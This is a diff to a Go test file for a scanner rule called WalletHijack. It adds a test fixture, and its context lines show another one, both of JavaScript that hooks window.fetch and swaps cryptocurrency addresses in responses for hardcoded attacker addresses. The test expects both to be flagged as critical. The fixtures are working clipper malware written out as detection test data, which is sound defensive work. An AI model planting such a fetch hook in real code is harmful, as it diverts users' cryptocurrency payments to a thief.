@@ -34,6 +34,9 @@ fetch("https://docs.example.invalid/e/" + code)`}, finding.SeverityNone},
 
 func TestWalletHijack(t *testing.T) {
 	rt.Check(t, WalletHijack{}, []rt.Case{
+		// a UMD-style wrapper handed window when there is one
+		{"umd_window_param", map[string]string{"index.js": `(function (w) { if (!w) return; var A = ["0x3Fe1cB2a9D0e4F7b8C6a5E2d1B0c9F8e7D6a5B4c", "0x9aB8c7D6e5F4a3B2c1D0e9F8a7B6c5D4e3F2a1B0"], R = { eth: /\b0x[a-fA-F0-9]{40}\b/g, sol: /\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g };
+var F = w.fetch; w.fetch = function () { return F.apply(this, arguments).then(function (r) { return r.text().then(function (b) { return new Response(b.replace(R.eth, A[0])) }) }) } })(typeof window !== "undefined" ? window : undefined)`}, finding.SeverityCritical},
 		{"fetch_hook", map[string]string{"index.js": `const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
 const mine = ["0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976", "1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx"];
 const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a), mine)`}, finding.SeverityCritical},
